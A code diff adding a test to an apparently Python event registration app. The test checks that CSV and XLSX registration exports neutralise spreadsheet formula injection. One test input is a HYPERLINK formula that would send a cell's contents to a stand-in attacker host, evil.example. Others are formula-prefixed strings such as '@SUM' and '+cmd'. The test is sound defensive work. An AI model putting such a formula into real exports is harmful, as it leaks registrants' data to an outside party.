@@ -113,3 +113,26 @@ def test_an_organisation_question_is_not_exported_twice(app, client, create_user
     header, row = _csv(client.get(f"/manage/events/{event.slug}/registrations.csv"))
     assert header.count("Organisation") == 1 and "Diet" in header
     assert row[2] == "NHRI" and row[header.index("Diet")] == "none"
+
+
+def test_formulas_in_question_labels_and_choices_stay_text_in_both_files(app, client, create_user, create_event,
+                                                                         login, add_field):
+    """An organiser's question label is a header cell: it is neutralised like every other cell."""
+    organiser = create_user(email="org@example.org")
+    event = create_event(organiser=organiser, slug="plain")
+    label = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    add_field(event, "q", "single_choice", label={"en": label},
+              choices=[{"key": "a", "label": {"en": "@SUM(1+1)"}}, {"key": "b", "label": {"en": "\tplain"}}])
+    add_field(event, "note", "text", label={"en": "+cmd"}, position=1)
+    insert_registrations(app, event, [{"name": "-2+3", "email": "p@example.org", "answers": {"q": "a", "note": "－1"}}])
+    login(organiser)
+    header, row = _csv(client.get(f"/manage/events/{event.slug}/registrations.csv"))
+    assert header[7:9] == ["'" + label, "'+cmd"]
+    assert row[0] == "'-2+3" and row[7:9] == ["'@SUM(1+1)", "'－1"]
+    response = client.get(f"/manage/events/{event.slug}/registrations.xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).worksheets[0]
+    titles, cells = list(sheet.iter_rows(max_row=2))
+    for cell in (titles[7], titles[8], cells[0], cells[7], cells[8]):
+        assert cell.data_type == "s" and cell.quotePrefix, cell.value  # text, and stays text when edited
+    assert titles[7].value == label and cells[0].value == "-2+3"  # shown as typed, without an apostrophe
+    assert not titles[0].quotePrefix and not cells[1].quotePrefix  # ordinary text is left alone
